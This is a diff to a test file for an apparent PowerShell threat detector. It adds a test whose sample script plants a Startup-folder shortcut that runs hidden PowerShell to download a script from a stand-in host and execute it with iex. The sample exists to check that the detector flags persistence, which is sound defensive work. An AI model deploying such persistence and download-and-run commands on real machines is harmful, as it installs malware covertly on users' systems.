@@ -297,3 +297,16 @@ def test_a_stream_wrapped_around_decoded_bytes_yields_decoded_code(tmp_path: Pat
         "iex (New-Object IO.StreamReader($s)).ReadToEnd()\n",
     )
     assert [line for line, _ in chain(found, Kind.EXEC_DECODED)] == [1, 3]
+
+
+def test_a_shortcut_saved_in_the_startup_folder_that_starts_a_download(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "$s = (New-Object -ComObject WScript.Shell).CreateShortcut("
+        '"$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.lnk")\n'
+        "$s.TargetPath = 'powershell.exe'\n"
+        "$s.Arguments = '-w hidden -c \"iwr https://z.example.invalid/a.ps1|iex\"'\n"
+        "$s.Save()\n",
+    )
+    persisted = [(c.chain[-1].line, c.detail.endswith("(runs code)")) for c in found if c.kind is Kind.PERSISTENCE]
+    assert persisted == [(1, False), (3, True)]
